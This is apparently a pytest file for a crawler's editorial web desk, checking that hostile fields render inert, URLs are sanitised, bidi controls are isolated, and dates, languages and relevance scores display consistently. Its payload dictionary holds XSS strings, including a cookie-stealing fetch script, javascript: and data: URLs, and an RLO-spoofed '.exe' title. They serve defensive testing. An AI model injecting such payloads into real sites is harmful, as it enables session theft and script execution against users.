"""Rendering of the desk (crawler.web.templating): hostile fields stay inert, links, bidi isolation (T41).

Runs on SQLite and PostgreSQL (`db_url`); HTTP goes through FastAPI's TestClient over
``https://testserver`` so the ``Secure`` session cookie is sent back (tests/desklab.py).
"""

from __future__ import annotations

import html
import re
from datetime import UTC, date, datetime, timedelta, timezone

import html5lib
import pytest
from desklab import SQLITE_ONLY, add_item, add_source, client_for, csrf_of, decide_form, editor_client

from crawler.text import when
from crawler.web.templating import TEMPLATES, language_line, safe_url, score

# --- T41 static check -----------------------------------------------------------------------------

PAYLOADS = {
    "title": "<script>fetch('http://127.0.0.3:9/x?c='+document.cookie)</script>",
    "title2": "<img src=x onerror=alert(1)>",
    "title3": '"]]></title><script>alert(1)</script>',
    "author": '"><svg onload=alert(1)>',
    "url": "javascript:alert(1)",
    "text": (
        '<a href="jav&#x09;ascript:alert(1)">x</a>'
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "<svg><script>alert(1)</script></svg><iframe srcdoc='<script>alert(1)</script>'></iframe>"
        "<form action='javascript:alert(1)'><base href='javascript:alert(1)//'>"
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"
        '<p style="background:url(javascript:alert(1))">x</p>'
        "<a href='data:text/html,<script>alert(1)</script>'>d</a>"
    ),
}


CHART_PARTS = frozenset({"title", "desc", "rect", "text", "g", "line"})
"""What the desk's own server-side charts (crawler.web.coverage: sparklines, heatmap) are made of."""


def _our_chart(svg) -> bool:
    """An SVG the desk drew itself: role="img" and only chart parts inside (no script, link or foreign
    object; their attributes are checked like every other element's)."""
    parts = {str(el.tag).split("}")[-1].lower() for el in svg.iter()} - {"svg"}
    return svg.get("role") == "img" and parts <= CHART_PARTS


def assert_inert(html: str, nonce: str) -> None:
    """No element, attribute or URL of the page can run script except our own nonce'd app.js."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    for el in tree.iter():
        tag = el.tag if isinstance(el.tag, str) else ""
        local = tag.split("}")[-1].lower()
        if local == "script":
            assert (
                el.get("src") == "/static/app.js" and el.get("nonce") == nonce and not (el.text or "").strip()
            )
        assert (
            local not in ("iframe", "base", "object", "embed", "svg", "math", "style", "form")
            or (local == "form" and (el.get("action") or "").startswith("/"))
            or (local == "svg" and _our_chart(el))
        ), local
        if local == "meta":
            assert (el.get("http-equiv") or "").lower() != "refresh"
        for name, value in el.attrib.items():
            lname = name.lower()
            assert not lname.startswith("on"), (local, name)
            assert lname not in ("srcdoc", "style"), (local, name)
            v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if lname in ("href", "src", "action", "formaction", "content", "xlink:href"):
                assert not v.startswith(("javascript:", "data:", "vbscript:")), (local, name, value)
                assert "javascript:" not in v or lname == "content", (local, name, value)


@SQLITE_ONLY
def test_hostile_fields_render_inert_everywhere(app, Session) -> None:
    with Session() as s:
        add_source(s, PAYLOADS["author"], PAYLOADS["author"], publisher=PAYLOADS["title"])
        ids = [
            add_item(
                s,
                n,
                source_id=PAYLOADS["author"],
                title=PAYLOADS[key],
                author=PAYLOADS["author"],
                url=PAYLOADS["url"],
                summary=PAYLOADS["text"],
                text=PAYLOADS["text"],
                language=PAYLOADS["title2"][:8],
                country="<b>",
                attachments=[{"url": "javascript:alert(1)", "title": PAYLOADS["title2"]}, "data:text/html,x"],
                evidence=[{"term": PAYLOADS["title2"], "weight": 1, "language": "<i>", "count": 1}],
            ).id
            for n, key in enumerate(("title", "title2", "title3"), start=1)
        ]
        s.commit()
    admin = editor_client(app, Session, "root", "admin")
    csrf = csrf_of(admin)
    admin.post(
        f"/items/{ids[0]}/decide", data=decide_form(admin, ids[0], "edit", editor_summary=PAYLOADS["text"])
    )
    hostile = admin.post(
        f"/items/{ids[1]}/decide", data=decide_form(admin, ids[1], "reject", reason=PAYLOADS["title"])
    )
    assert hostile.status_code == 400  # only the listed reasons (test_reject_reason_must_be_listed)
    admin.post(f"/items/{ids[1]}/decide", data=decide_form(admin, ids[1], "reject", reason="other"))
    bulk = admin.post(
        "/queue/bulk",
        data={"csrf_token": csrf, "action": "approve", "request_token": "d" * 32, "item": [f"{ids[2]}:1"]},
    )
    pages = [bulk]
    for path in (
        "/queue",
        "/queue?status=any",
        f"/queue?q={PAYLOADS['title2']}",
        "/queue/counts?status=any",
        f"/items/{ids[0]}",
        f"/items/{ids[1]}",
        f"/items/{ids[2]}",
        "/history",
        "/sources",
        "/admin/audit",
        "/admin/users",
        f"/items/{ids[0]}?msg={PAYLOADS['title']}",
    ):
        pages.append(admin.get(path))
    pages.append(client_for(app).get(f"/login?next={PAYLOADS['url']}"))
    for page in pages:
        assert page.status_code == 200, page.url
        csp = page.headers["content-security-policy"]
        nonce = re.search(r"'nonce-([A-Za-z0-9_-]+)'", csp).group(1)
        assert "default-src 'none'" in csp and page.headers["x-content-type-options"] == "nosniff"
        assert_inert(page.text, nonce)
    item_page = pages[5].text
    assert "&lt;script&gt;fetch(" in item_page  # shown as text, not dropped
    assert 'id="original-link-blocked"' in item_page


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://example.org/a", True),
        ("http://x.test", True),
        ("javascript:alert(1)", False),
        ("jav\tascript:alert(1)", False),
        (" JAVASCRIPT:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.test/x", False),
        ("https://", False),
        (None, False),
    ],
)
def test_safe_url(url, ok: bool) -> None:
    assert (safe_url(url) is not None) is ok


BIDI_TITLE = "Invoice \u202egnp.exe \u2066x\u200f"


def test_titles_render_inside_bidi_isolates(app, Session) -> None:
    """A right-to-left override in a harvested title or author cannot reorder the page around it:
    every text holding a bidi control sits in a <bdi> (or an element with dir), and the page's
    <title> holds none."""
    with Session() as s:
        add_source(s, "src-a")
        item = add_item(s, 1, title=BIDI_TITLE, author="\u202eRLO author").id
        s.commit()
    alice = editor_client(app, Session)
    assert alice.post(f"/items/{item}/decide", data=decide_form(alice, item, "defer"), follow_redirects=False)
    controls = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")
    for path in ("/queue?status=any", f"/items/{item}", "/history"):
        tree = html5lib.parse(alice.get(path).text, namespaceHTMLElements=False)
        parents = {child: parent for parent in tree.iter() for child in parent}
        found = 0
        for el in tree.iter():
            if el.tag == "title":
                assert not controls.search(el.text or ""), path
                continue
            if controls.search(el.text or ""):
                found += 1
                assert el.tag == "bdi" or el.get("dir") == "auto", (path, el.tag, el.text)
            if controls.search(el.tail or ""):
                found += 1
                parent = parents[el]
                assert parent.tag == "bdi" or parent.get("dir") == "auto", (path, parent.tag, el.tail)
        assert found >= 1, path
        assert any(el.tag == "bdi" and el.text == BIDI_TITLE for el in tree.iter()), path


# --- dates and times: one way, a time of day always names its zone --------------------------------

CEST = timezone(timedelta(hours=2))


@pytest.mark.parametrize(
    ("value", "precision", "flags", "shown"),
    [
        # an aware time is shown in UTC, named
        (datetime(2023, 7, 1, 11, 16, tzinfo=CEST), "minute", None, "2023-07-01 09:16 UTC"),
        (datetime(2023, 7, 1, 9, 16, 5, tzinfo=UTC), "second", None, "2023-07-01 09:16:05 UTC"),
        (datetime(2023, 7, 1, 0, 30, tzinfo=CEST), "day", None, "2023-06-30"),  # the UTC day
        # a naive time is UTC, as the store keeps them
        (datetime(2023, 7, 1, 9, 16), "minute", None, "2023-07-01 09:16 UTC"),
        # ISO strings (structured fields): an instant, and a date alone
        ("2026-03-15T16:00:00Z", "minute", None, "2026-03-15 16:00 UTC"),
        ("2026-03-15T18:00:00+02:00", "minute", None, "2026-03-15 16:00 UTC"),
        ("2026-03-15", "minute", None, "2026-03-15"),
        # a date has no time of day: neither a time nor a zone
        (date(2023, 7, 1), "minute", None, "2023-07-01"),
        (date(2023, 7, 1), "month", None, "2023-07"),
        # an item's date precision: the day, month or year the source gave, no time or zone
        (datetime(2023, 7, 1, tzinfo=UTC), "minute", ["date_only"], "2023-07-01"),
        (datetime(2023, 7, 1, tzinfo=UTC), "minute", ["date_only", "date_month"], "2023-07"),
        (datetime(2023, 1, 1, tzinfo=UTC), "minute", ["date_only", "date_year"], "2023"),
        (datetime(2023, 7, 1, 9, 16, tzinfo=UTC), "minute", ["feed_updated"], "2023-07-01 09:16 UTC"),
        # nothing, and what is not a date
        (None, "minute", None, "—"),
        ("", "minute", None, "—"),
        ("soon", "minute", None, "soon"),
    ],
)
def test_when_names_the_zone_of_every_time_of_day(value, precision, flags, shown) -> None:
    assert when(value, precision, flags) == shown


def test_templates_show_times_only_through_dt() -> None:
    """Every template formats dates with the ``dt`` filter: no strftime of its own (an input's value
    for a date field excepted) and no zone written by hand."""
    for path in TEMPLATES.rglob("*.*"):
        text = path.read_text(encoding="utf-8")
        for line in text.splitlines():
            if "strftime" in line:
                assert 'type="date"' in line, (path.name, line)
            assert "UTC" not in line, (path.name, line)


def test_item_page_shows_published_and_other_times_in_utc(app, Session) -> None:
    """The item page's publication time names its zone like the claim line; a day-only date shows
    the day alone."""
    with Session() as s:
        add_source(s, "src-a")
        timed = add_item(s, 1, published_at=datetime(2023, 7, 1, 11, 16, tzinfo=CEST)).id
        day = add_item(s, 2, published_at=datetime(2023, 7, 1, tzinfo=UTC), flags=["date_only"]).id
        s.commit()
    alice = editor_client(app, Session)
    page = alice.get(f"/items/{timed}").text
    assert '<dt>Published</dt><dd id="published" title="2023-07-01 09:16 UTC">1 Jul 2023 09:16 UTC (' in page
    assert re.search(r"<dt>First seen</dt><dd>\d{4}-\d\d-\d\d \d\d:\d\d UTC</dd>", page)
    page = alice.get(f"/items/{day}").text
    assert '<dt>Published</dt><dd id="published" title="2023-07-01">1 Jul 2023 (the day only' in page
    alice.post(f"/items/{timed}/claim", data={"csrf_token": csrf_of(alice)})
    page = alice.get(f"/items/{timed}").text
    assert re.search(r"Claimed by you \(alice\) until \d\d:\d\d UTC", page)
    form = decide_form(alice, timed, "defer")
    assert alice.post(f"/items/{timed}/decide", data=form, follow_redirects=False)
    history = alice.get("/history").text
    assert re.search(r"<td>\d{4}-\d\d-\d\d \d\d:\d\d UTC</td><td>alice</td>", history)


# (published_at, flags, date_method, the item page's line)
PUBLISHED_LINES = [
    (datetime(2022, 1, 20, tzinfo=UTC), ["date_only"], "page", "20 Jan 2022 (the page gives the day only)"),
    (
        datetime(2022, 1, 1, tzinfo=UTC),
        ["date_only", "date_month"],
        "sitemap",
        "Jan 2022 (the sitemap's last-modified date gives the month only)",
    ),
    (
        datetime(2022, 1, 1, tzinfo=UTC),
        ["date_only", "date_year"],
        None,
        "2022 (the year only; where the date came from is not recorded)",
    ),
    (datetime(2023, 7, 1, 11, 16, tzinfo=CEST), [], "feed", "1 Jul 2023 09:16 UTC (from the feed)"),
    (None, [], None, "No publication date found"),
    (None, [], "page", "No publication date found"),
]


@pytest.mark.parametrize(("published_at", "flags", "method", "line"), PUBLISHED_LINES)
def test_item_page_says_the_publication_date_in_words(
    app, Session, published_at, flags, method, line
) -> None:
    """No jargon such as "(day only) (page)" or "(date method unknown)": the date in words, how
    precise the source gave it and where it came from; no date reads as the queue's "undated" does."""
    with Session() as s:
        add_source(s, "src-a")
        item_id = add_item(s, 1, published_at=published_at, flags=flags, date_method=method).id
        s.commit()
    page = editor_client(app, Session).get(f"/items/{item_id}").text
    shown = re.search(r'<dd id="published"[^>]*>([^<]*)</dd>', page).group(1)
    assert html.unescape(shown) == line
    assert "date method unknown" not in page and "(day only)" not in page


# (language, confidence, method, declared, the item page's line)
LANGUAGE_LINES = [
    ("fr", 1.0, "detected", "fr", "fr (detected, 100%); document declares fr"),
    ("fr", 0.87, "title_and_page", "fr", "fr (title and page agree, 87%); document declares fr"),
    ("de", 0.0, "declared_page", "de", "de (declared by the page)"),
    ("de", 0.42, "source_default", None, "de (the source's language, 42%); document declares none"),
    ("und", 0.12, "undetermined", None, "undetermined; document declares none"),
    (None, None, None, "it", "undetermined; document declares it"),
    ("pl", 0.9, None, None, "pl (90%); document declares none"),  # harvested before methods were kept
    ("pl", None, "new_method", None, "pl (new method); document declares none"),
]


@pytest.mark.parametrize(("language", "confidence", "method", "declared", "line"), LANGUAGE_LINES)
def test_language_line_reads_naturally(language, confidence, method, declared, line) -> None:
    """Rule: the code, then how it was chosen and the confidence in brackets, no word twice."""
    assert language_line(language, confidence, method, declared) == line
    words = re.findall(r"[a-z]{3,}", line)
    assert len(words) == len(set(words)), line


@SQLITE_ONLY
def test_item_page_shows_the_language_line(app, Session) -> None:
    with Session() as s:
        add_source(s, "src-a")
        item = add_item(s, 1, language="fr", language_confidence=1.0, language_method="detected").id
        s.commit()
    page = editor_client(app, Session).get(f"/items/{item}").text
    assert '<dt>Language</dt><dd id="language">fr (detected, 100%); document declares en</dd>' in page


@pytest.mark.parametrize(
    "value, shown",
    [(0.756, "0.76"), (0.754, "0.75"), (1.0, "1.00"), (0.0, "0.00"), (0.005, "0.01"), (None, "—")],
)
def test_relevance_reads_as_the_cli_prints_it(value, shown) -> None:
    assert score(value) == shown


def test_desk_shows_relevance_as_the_cli_does(app, Session) -> None:
    with Session() as s:
        add_source(s, "src-a")
        item = add_item(s, 1, relevance=0.756).id
        s.commit()
    client = editor_client(app, Session)
    assert "<dt>Relevance</dt><dd>0.76 " in client.get(f"/items/{item}").text
    assert '<td class="rel">0.76 ' in client.get("/queue").text


HELD_DOWN = [
    {"term": "*migration*", "weight": 6.0, "language": "de", "count": 13},
    {"term": "asyl*", "weight": 3.0, "language": "de", "count": 2},
    {"term": "neue chefin", "weight": -3.75, "language": "de", "count": 1},
]


@pytest.mark.parametrize(("relevant", "first"), [(False, "neue chefin"), (True, "*migration*")])
def test_desk_reasons_lead_with_the_side_that_decided(app, Session, relevant: bool, first: str) -> None:
    with Session() as s:
        add_source(s, "src-a")
        item = add_item(s, 1, relevance=0.03 if not relevant else 0.9, relevant=relevant)
        item.relevance_evidence = HELD_DOWN
        item_id = item.id
        s.commit()
    client = editor_client(app, Session)
    page = client.get(f"/items/{item_id}").text
    evidence = page.split('<div id="relevance-evidence">', 1)[1]
    terms = [
        term
        for term, _ in re.findall(r'<span class="term (?:up|down)">([^<]+?) <small>(de)</small>', evidence)
    ]
    assert terms[0] == first and sorted(terms) == ["*migration*", "asyl*", "neue chefin"]
    row = client.get("/queue").text.split('class="line sub"', 1)[1]
    shown = re.findall(r'<span class="reason (up|down)"[^>]*>[+−]([^<]+)</span>', row)
    assert shown[0][1] == first and len(shown) == 3


@pytest.mark.parametrize(
    ("relevant", "caption"),
    [
        (True, "that theme's own threshold"),
        (None, "that theme's own threshold"),
        (False, "relevant items only"),
    ],
)
def test_theme_table_says_how_themes_are_assigned(app, Session, relevant, caption: str) -> None:
    with Session() as s:
        add_source(s, "src-a")
        item = add_item(s, 1, relevant=relevant).id
        s.commit()
    page = editor_client(app, Session).get(f"/items/{item}").text
    table = page.split('id="theme-scores"', 1)[1].split("</table>", 1)[0]
    assert caption in table.split("</caption>", 1)[0]


@pytest.mark.parametrize(
    ("language", "editor_summary", "shown", "placeholder"),
    [
        ("en", None, "Refugees find homes.", False),  # an English summary is the English field's value
        ("fr", None, "", True),  # another language's is not put in the English field; the form says so
        ("de", None, "", True),
        ("fr", "An English summary.", "An English summary.", False),  # the editor's own stays
        (None, None, "", True),
    ],
)
def test_the_english_summary_field_holds_english_only(
    app, Session, language, editor_summary, shown: str, placeholder: bool
) -> None:
    with Session() as s:
        add_source(s, "src-a")
        summary = {
            "en": "Refugees find homes.",
            "fr": "Les réfugiés trouvent un logement.",
            "de": "Wohnungen.",
        }
        item = add_item(
            s,
            1,
            language=language,
            summary=summary.get(language or "", "Text."),
            editor_summary=editor_summary,
        ).id
        s.commit()
    page = editor_client(app, Session).get(f"/items/{item}").text
    field = page.split('id="editor_summary"', 1)[1].split("</textarea>", 1)[0]
    assert field.split(">", 1)[1] == shown
    assert ("placeholder=" in field.split(">", 1)[0]) is placeholder
    if placeholder:
        assert f"is in {language or 'another language'}" in field
